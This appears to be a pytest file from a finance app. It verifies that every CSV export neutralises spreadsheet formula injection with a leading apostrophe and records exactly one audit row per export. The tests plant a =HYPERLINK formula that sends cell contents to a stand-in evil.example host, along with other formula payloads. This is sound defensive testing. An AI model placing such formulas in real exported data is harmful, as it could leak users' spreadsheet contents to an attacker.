"""Every CSV the app offers is audited when it leaves, and safe to open in a spreadsheet.

One test per download the pages offer (Accounts, Audit log, Returns, the three Conversion tables,
batch check results): text planted in the store (or the batch) that a spreadsheet would run as a
formula comes out with a leading apostrophe, numbers stay numbers, and the export writes exactly
one ``ok`` audit row naming who took it and how many rows. Runs on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import tomllib
from pathlib import Path
from typing import Any

from sqlalchemy.engine import Engine
from sqlmodel import col, select

from services import audit
from services.adapters.models import AuditEntry
from services.adapters.store import session_scope
from services.auth import Actor
from services.context import Services
from services.rules import spreadsheet
from services.rules.chart_data import with_settled
from tests import stripe_shapes as shapes
from tests.store.test_debit_outcomes import T0, intent

ADMIN = Actor(username="ann", role="admin")
FINANCE = Actor(username="fin", role="finance")
MANAGER = Actor(username="max", role="manager")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ROOT = Path(__file__).resolve().parents[2]


def rows_of(text: str | bytes) -> list[dict[str, str]]:
    if isinstance(text, bytes):
        text = text.decode()
    return list(csv.DictReader(io.StringIO(text)))


def export_rows(engine: Engine, action: str) -> list[AuditEntry]:
    with session_scope(engine) as session:
        return list(
            session.exec(
                select(AuditEntry).where(AuditEntry.action == action).order_by(col(AuditEntry.id))
            ).all()
        )


def assert_one_export_row(engine: Engine, action: str, actor: Actor, rows: int) -> None:
    [entry] = export_rows(engine, action)
    assert (entry.actor, entry.role, entry.outcome) == (actor.username, actor.role, "ok")
    assert entry.params["rows"] == rows and str(rows) in (entry.message or "")


def svc_on(engine: Engine, now: int = T0 + 2 * 86_400) -> Services:
    return Services(gateway=None, engine=engine, mode="sandbox", now=lambda: now)  # type: ignore[arg-type]  # exports read only the store


def test_accounts_export(engine: Engine) -> None:
    from services.adapters import account_mirror
    from services.usecases import export_accounts

    account_mirror.upsert_account(
        engine, shapes.account("fca_evil", institution_name=EVIL, display_name="@SUM(1+1)")
    )
    data = export_accounts.export_accounts_csv(svc_on(engine, shapes.NOW), FINANCE)
    [row] = rows_of(data)
    assert row["institution_name"] == "'" + EVIL and row["display_name"] == "'@SUM(1+1)"
    assert row["id"] == "fca_evil"
    assert_one_export_row(engine, "accounts.export", FINANCE, 1)


def test_audit_log_export_is_itself_audited(engine: Engine) -> None:
    from services.usecases import export_audit

    audit.record(engine, actor=FINANCE, action="x.test", target=EVIL, outcome="ok", message="-1+2")
    text = export_audit.export(svc_on(engine), ADMIN, export_audit.AuditFilters())
    [row] = rows_of(text)
    assert row["target"] == "'" + EVIL and row["message"] == "'-1+2"
    assert_one_export_row(engine, "audit.export", ADMIN, 1)
    # The next export shows the first one: taking the log is on the log.
    again = rows_of(export_audit.export(svc_on(engine), ADMIN, export_audit.AuditFilters()))
    assert [r["action"] for r in again] == ["audit.export", "x.test"]


def test_returns_export(engine: Engine) -> None:
    from services.usecases import returns_report
    from services.usecases.debit_outcomes import record_payment_intent

    evil = intent("requires_payment_method", "insufficient_funds", pi_id="pi_evil")
    evil["customer"] = EVIL
    record_payment_intent(engine, evil, at=T0 + 86_400)
    text = returns_report.export_csv(svc_on(engine), FINANCE, category="overall")
    [row] = rows_of(text)
    assert row["customer"] == "'" + EVIL
    assert_one_export_row(engine, "returns.export", FINANCE, 1)


def test_conversion_exports(engine: Engine) -> None:
    from services.usecases import conversion_report
    from services.usecases.sync_intents import store_intent

    pi = intent("succeeded", pi_id="pi_conv")
    pi["metadata"] = {"fcops_flow": EVIL}
    store_intent(engine, pi, succeeded_at=T0 + 3600)
    svc = svc_on(engine)
    now = T0 + 2 * 86_400
    intents = rows_of(conversion_report.figures_csv(svc, MANAGER, "intents", now=now))
    assert [(r["id"], r["flow"]) for r in intents] == [("pi_conv", "'" + EVIL)]
    funnel = rows_of(conversion_report.figures_csv(svc, MANAGER, "funnel", now=now))
    weekly = rows_of(conversion_report.figures_csv(svc, MANAGER, "weekly", now=now))
    assert funnel and weekly
    assert sum(int(r["started"]) for r in funnel) == 1  # counts stay numbers
    # The CSV's conversion_rate is the page's (usable ÷ ended), empty where nothing ended.
    page = with_settled(conversion_report.conversion(engine, now=now))
    for row in funnel:
        shown = page[page["verification_method"] == row["verification_method"]]
        rate = float(shown["ended_conversion_rate"].iloc[0])
        assert row["conversion_rate"] == ("" if rate != rate else str(rate)), row
        assert "started_conversion_rate" in row and "ended_conversion_rate" not in row
    rows = export_rows(engine, "conversion.export")
    assert [(e.params["table"], e.actor, e.outcome) for e in rows] == [
        ("intents", "max", "ok"),
        ("funnel", "max", "ok"),
        ("weekly", "max", "ok"),
    ]
    assert [e.params["rows"] for e in rows] == [1, len(funnel), len(weekly)]


def test_batch_results_export(engine: Engine) -> None:
    from services.rules.batch_result import BatchResult, BatchRow
    from services.usecases import check_batch

    result = BatchResult(
        rows=[
            BatchRow(row=2, target="fca_1", target_kind="account", amount=-1250,
                     currency="usd", reference=EVIL, verdict="ok"),
            BatchRow(row=3, target="+15551234", target_kind="account", amount=100,
                     currency="usd", reference="rent", verdict="error", error="=1+1"),
        ]
    )  # fmt: skip
    rows = rows_of(check_batch.results_csv(svc_on(engine), FINANCE, result))
    assert [r["reference"] for r in rows] == ["'" + EVIL, "rent"]
    assert [r["id"] for r in rows] == ["fca_1", "'+15551234"]
    assert rows[1]["error"] == "'=1+1" and rows[0]["amount"] == "-12.50"  # money stays a number
    assert_one_export_row(engine, "balances.batch_export", FINANCE, 2)


def test_the_escaping_rule_in_one_place() -> None:
    for start in spreadsheet.FORMULA_STARTS:
        assert spreadsheet.safe_text(f"{start}x") == f"'{start}x"
    assert spreadsheet.safe_text("plain") == "plain" and spreadsheet.safe_text(None) == ""
    assert [spreadsheet.safe_cell(v) for v in (-3, 2.5, None, "-3")] == [-3, 2.5, None, "'-3"]
    text = spreadsheet.csv_text(["a", "=b"], [[-1, "=x"], [None, "ok"]])
    assert text.splitlines() == ["a,'=b", "-1,'=x", ",ok"]
    import pandas as pd

    frame = pd.DataFrame({"n": [-1, 2], "s": ["@a", "b"], "when": pd.to_datetime([0, 1], unit="s")})
    safe = spreadsheet.safe_frame(frame)
    assert safe["n"].tolist() == [-1, 2] and safe["s"].tolist() == ["'@a", "b"]
    assert frame["s"].tolist() == ["@a", "b"]  # the shown frame is a copy; the input is kept


def test_streamlit_table_downloads_are_off_where_the_app_offers_its_own() -> None:
    """st.dataframe's toolbar "Download as CSV" would bypass both the escaping and the audit
    row, so it is turned off for the whole app (Streamlit's client.disableDataExport)."""
    import streamlit.config as config

    settings: dict[str, Any] = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert settings["client"]["disableDataExport"] is True
    config.get_config_options(force_reparse=True)
    assert "client.disableDataExport" in config._config_options  # this Streamlit knows it
